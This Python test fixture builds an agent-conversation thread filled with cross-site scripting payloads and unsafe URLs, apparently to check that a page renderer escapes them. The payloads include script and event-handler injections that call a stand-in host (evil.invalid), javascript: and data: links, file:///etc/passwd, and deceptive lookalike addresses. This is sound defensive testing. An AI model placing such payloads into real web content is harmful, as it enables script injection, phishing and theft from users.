"""Texts that would harm a page that does not escape them, and a thread with them in every place for texts."""

from __future__ import annotations

from typing import Any

from clew_workflows.contract.policy import ContextPolicy
from clew_workflows.thread.thread import Thread
from tests.support.recorded import RecordedSession
from tests.support.threads import OTHER_PAYLOADS, tool_returns, user_says

MARKER = "harmed"
"""The name that a script of these texts sets in the page's window."""
_SCRIPT = f"window.{MARKER}=1;alert(1);fetch('//evil.invalid/x')"
HOSTILE_TEXTS = (
    f"<script>{_SCRIPT}</script>",
    f"</style></title></pre></textarea></svg><script>{_SCRIPT}</script>",
    f'"><img src=\'//evil.invalid/i.png\' onerror="{_SCRIPT}">',
    f"' onfocus='{_SCRIPT}' autofocus x='",
    f"`onmouseover={_SCRIPT}//",
    f"[click](javascript:{_SCRIPT}) ![i](//evil.invalid/m.png) <javascript:{_SCRIPT}>",
    "<link rel=stylesheet href=//evil.invalid/s.css><meta http-equiv=refresh content='0;url=//evil.invalid'>",
    f'<svg/onload={_SCRIPT}><iframe srcdoc="<script>parent.{MARKER}=1</script>"></iframe><base href=//evil.invalid/>',
    f"<!--<script>--><details open ontoggle={_SCRIPT}><input autofocus onfocus={_SCRIPT}>",
    "<form action=//evil.invalid><button autofocus>go</button></form>",
    "{{ 7*7 }} {% for x in y %} ${7*7} &lt;b&gt; &#x202E; ]]>",
    "\u202eesrever\u202c \u2066isolated \u200bzero\ufeff \U000e0041tag \u2028line",
    "\x00nul \x1b[31mred\x07 \x9bcsi \x7fdel \r\rreturn",
)


HOSTILE_ADDRESSES = (
    *HOSTILE_TEXTS,
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "javascript://tea.example/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "file:///etc/passwd",
    "//evil.invalid/x",
    "/x",
    "https:evil.invalid",
    "https://",
    "https://[::1",
    "https://bank.example@evil.invalid/",
    "https://evil.invalid\\@bank.example/",
    "https://bank.example/\u202emoc.live",
    "https://bank.example/ x",
    "",
)
"""Addresses that a page must not link."""


def write_hostile_thread() -> Thread:
    """Write the thread: each text as message, thinking, tool, argument, result, lane, reason, name, id and title."""
    first = HOSTILE_TEXTS[0]
    agent = {"name": first, "version": first, "label": first}
    metadata = {"title": first, **{text: text for text in HOSTILE_TEXTS}}
    session = RecordedSession(
        ContextPolicy(max_input_tokens=10_000_000), system_prompt=first, metadata=metadata, agent=agent, model=first
    )
    for text in HOSTILE_TEXTS:
        _write(session, text)
    citations: list[Any] = [{"url": address, "title": address, "quote": address} for address in HOSTILE_ADDRESSES]
    ran: Any = {"tool": "t", "sources": citations}
    founded: Any = {"role": "assistant", "content": "", "citations": citations, "provider_calls": [ran]}
    session.call(founded)
    line = "x" * 1_000_000
    session.writer.message(user_says(line))
    calls: Any = [{"id": "long", "name": line, "arguments": {"line": line}}]
    reply: Any = {"role": "assistant", "content": line, "tool_calls": calls, "thinking": line}
    session.call(reply)
    session.writer.message(tool_returns("long", line, line))
    return session.thread


def _write(session: RecordedSession, text: str) -> None:
    writer, ids = session.writer, {"run_id": text, "request_id": text, "session_id": text}
    user = {"context_ref": text, "role": "user", "content": text, "request_id": text, "source": text}
    writer.commit("ai_message", user | {"metadata": {text: text}}, **ids)
    calls: Any = [{"id": text, "name": text, "arguments": {text: text, "nested": [text]}}]
    reply: Any = {"role": "assistant", "content": text, "tool_calls": calls, "thinking": text}
    reply["provider_calls"] = [{"tool": text, "input": text, "output": text, "error": text, "sources": []}]
    sent = {"digest": text, "encoder": text, "dialect": text}
    session.call(reply, lane=text, run=text, model=text, request=sent, provider_tools=[text])
    child = {"session_id": text, "agent": text, "usage": {"input_tokens": 1}}
    result = {"context_ref": text, **tool_returns(text, text, text), "subagent": child, "is_error": True}
    edited = {text: text}
    writer.commit("approval", {"tool_call_id": text, "decision": "approve", "reason": text, "arguments": edited})
    writer.commit("ai_message", result | {"edited_arguments": edited}, **ids, tool_call_id=text)
    session.call({"role": "assistant", "content": f"# {text}\n\n| {text} |\n|-|\n| {text} |"}, lane=text, run=text)
    writer.commit("ai_message", {"context_ref": text, **tool_returns(f"{text} of no call", text, text)}, **ids)
    failed = {"status": "failed", "termination_reason": text, "error": {"type": text, "message": text}}
    writer.commit("run", OTHER_PAYLOADS["run"] | failed, **ids)
    writer.commit("error", {"type": text, "message": text, "details": {}})
    unread = {"event": "rejected", "kind": text, "reason": text, "content": text}
    writer.commit("input", unread)
    writer.commit("approval", {"tool_call_id": f"{text} of no call", "decision": "deny", "reason": text})
    writer.commit("fork", {"event": "forked_from", "session_id": text, "fork_seq": 1})
    writer.commit("fork", {"event": "forked_to", "session_id": text, "fork_seq": 1})
    writer.commit("session", {"event": "closed", "workflow": text, "reason": text})
    writer.summary(3, text, text)
    writer.replace([{"role": "user", "content": text}], text, system_prompt=text, reason="compaction")
    writer.switch(text)
    writer.commit("config", dict(writer.thread.configs[0].payload) | {"model": text, "changes": [text]})
